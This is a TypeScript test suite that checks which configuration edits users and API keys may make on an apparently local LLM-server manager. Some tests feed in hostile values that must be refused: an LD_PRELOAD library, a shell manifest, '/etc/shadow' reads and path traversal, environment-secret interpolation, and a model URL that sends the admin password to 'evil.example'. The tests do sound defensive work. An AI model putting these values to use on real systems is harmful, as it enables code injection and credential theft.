// Which edits somebody may make: by what differs, so that no way of writing it goes around.
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { merged } from '../../schema/fixtures/merged.ts';
import type { DesiredKey, Json, JsonObject } from '../../reconciler/index.ts';
import { ROLES, type Role } from '../../schema/scopes.ts';
import { judgeEdit } from './edits.ts';
import { OWNER, type Somebody } from './somebody.ts';

const test = suite('edits');
const HASH = `$2b$04$${'a'.repeat(53)}`;
const BEFORE = {
  version: 1, server: { host: '127.0.0.1' }, models: { mini: { source: 'bundled:x.gguf' } },
  plugins: { llmserver: { state: 'running', env: { A: 'b' }, config: { parallel: 1 } }, coder: { use: 'llmserver' } },
  users: { root: { role: 'admin', password: { hash: HASH } }, dev: { role: 'developer' }, ro: { role: 'readonly' } },
  keys: { mine: { user: 'dev', scopes: ['llm.chat'], hash: HASH }, theirs: { user: 'root', scopes: ['*'], hash: HASH } },
};

const person = (name: string, role: Role): Somebody => ({ kind: 'user', name, user: name, key: null, grants: [ROLES[role]], plugins: null });
const DEV = person('dev', 'developer');
const RO = person('ro', 'readonly');
const holding = (scopes: readonly string[], more: Partial<Somebody> = {}): Somebody => ({ kind: 'key', name: 'key k', user: 'root', key: { id: 'k', expires: null, limits: { requestsPerMinute: null, tokensPerMinute: null, concurrent: null } } as DesiredKey, grants: [ROLES.admin, scopes], plugins: null, ...more });

const places = (who: Somebody, patch: Json): readonly string[] => judgeEdit(who, BEFORE, merged(BEFORE, patch)).map((problem) => problem.pointer);
const allowed = (who: Somebody, patch: Json): void => assert.equal(places(who, patch), []);
const refused = (who: Somebody, patch: Json, pointer: string): void => assert.ok(places(who, patch).includes(pointer), `${pointer} among ${JSON.stringify(places(who, patch))}`);

test('the owner and an admin may everything', () => {
  for (const who of [OWNER, person('root', 'admin')]) allowed(who, { server: { host: '0.0.0.0' }, users: null, plugins: { x: { manifest: { run: ['sh'] }, env: { B: '${env:SECRET}' } } } });
});

test('a reader may nothing', () => {
  refused(RO, { plugins: { llmserver: { state: 'stopped' } } }, '/plugins/llmserver/state');
  refused(RO, { models: { mini: null } }, '/models/mini/source');
  refused(RO, { drift: { ConfigInvalid: 'ignore' } }, '/drift/ConfigInvalid');
  refused(RO, { keys: { new: { user: 'ro', scopes: ['llm.chat'], hash: HASH } } }, '/keys/new/user');
});

test('a developer controls plugins and models, and runs no code by it', () => {
  allowed(DEV, { plugins: { llmserver: { state: 'stopped', config: { parallel: 2 }, models: { chat: 'mini' } } } });
  allowed(DEV, { plugins: { brainml: {}, coder: null } });
  allowed(DEV, { models: { qwen: { source: 'hf://a/b/c.gguf' } }, plugins: { llmserver: { limits: { concurrent: 2 } } } });
  for (const [patch, pointer] of [
    [{ plugins: { llmserver: { env: { LD_PRELOAD: '/tmp/x.so' } } } }, '/plugins/llmserver/env/LD_PRELOAD'],
    [{ plugins: { coder: { use: './evil' } } }, '/plugins/coder/use'],
    [{ plugins: { x: { manifest: { run: ['sh'] } } } }, '/plugins/x/manifest/run'],
    [{ plugins: { llmserver: { grants: ['*'] } } }, '/plugins/llmserver/grants'],
    [{ plugins: { llmserver: { config: { template: '${env:ADMIN_PASSWORD}' } } } }, '/plugins/llmserver/config/template'],
    [{ models: { x: { source: 'file:/etc/shadow' } } }, '/models/x/source'],
    [{ models: { x: { source: 'https://evil.example/?${env:ADMIN_PASSWORD}' } } }, '/models/x/source'],
    [{ server: { host: '0.0.0.0' } }, '/server/host'],
    [{ users: { dev: { role: 'admin' } } }, '/users/dev/role'],
    [{ users: 'nobody' }, '/users'],
  ] as readonly (readonly [Json, string])[]) refused(DEV, patch, pointer);
});

test('nobody gives more than they have', () => {
  allowed(DEV, { keys: { mine: { scopes: ['llm.*', 'config.read'] } } });
  allowed(DEV, { keys: { mine: null } });
  refused(DEV, { keys: { mine: { scopes: ['users.write'] } } }, '/keys/mine');
  refused(DEV, { keys: { mine: { scopes: ['*'] } } }, '/keys/mine');
  refused(DEV, { keys: { mine: { user: 'root' } } }, '/keys/mine');
  refused(DEV, { keys: { theirs: null } }, '/keys/theirs');
  const people = holding(['users.write', 'keys.write', 'config.read', 'llm.*']);
  allowed(people, { keys: { new: { user: 'dev', scopes: ['llm.chat'], hash: HASH } } });
  refused(people, { users: { ro: { role: 'admin' } } }, '/users/ro');
  refused(people, { users: { root: { password: { hash: HASH.replace('aa', 'bb') } } } }, '/users/root');
  refused(people, { users: { root: null } }, '/users/root');
  refused(holding(['users.write']), { users: { spy: { role: 'readonly', password: { env: 'HF_TOKEN' } } } }, '/users/spy/password/env');
});

test('a key makes none that outlives it or may ask more often', () => {
  const limits = { requestsPerMinute: 60, tokensPerMinute: null, concurrent: null };
  const bound = holding(['keys.write', 'llm.chat', 'users.write'], { key: { id: 'k', expires: Date.parse('2027-01-01T00:00:00Z'), limits } as DesiredKey });
  const made = (more: JsonObject): Json => ({ keys: { new: { user: 'root', scopes: ['llm.chat'], hash: HASH, ...more } } });
  refused(bound, made({ limits: { requestsPerMinute: 60 } }), '/keys/new/expires');
  refused(bound, made({ expires: '2028-01-01', limits: { requestsPerMinute: 60 } }), '/keys/new/expires');
  refused(bound, made({ expires: '2026-12-01' }), '/keys/new/limits/requestsPerMinute');
  refused(bound, made({ expires: '2026-12-01', limits: { requestsPerMinute: 61 } }), '/keys/new/limits/requestsPerMinute');
  allowed(bound, made({ expires: '2026-12-01', limits: { requestsPerMinute: 10 } }));
});

test('what comes along is no way to other files of the machine', () => {
  allowed(DEV, { models: { x: { source: 'bundled:models/mini/bkg-mini.gguf' } } });
  for (const source of ['bundled:/etc/shadow', 'bundled:../../etc/shadow']) refused(DEV, { models: { x: { source } } }, '/models/x/source');
});

test('who reaches one plugin reaches no other by an edit', () => {
  const one = holding(['plugins.control', 'keys.write', 'llm.chat', 'users.write'], { plugins: ['llmserver'] });
  allowed(one, { plugins: { llmserver: { state: 'stopped' } } });
  refused(one, { plugins: { coder: { state: 'stopped' } } }, '/plugins/coder/state');
  refused(one, { keys: { new: { user: 'root', scopes: ['llm.chat'], hash: HASH } } }, '/keys/new/plugins');
  allowed(one, { keys: { new: { user: 'root', scopes: ['llm.chat'], hash: HASH, plugins: ['llmserver'] } } });
});

test.run();
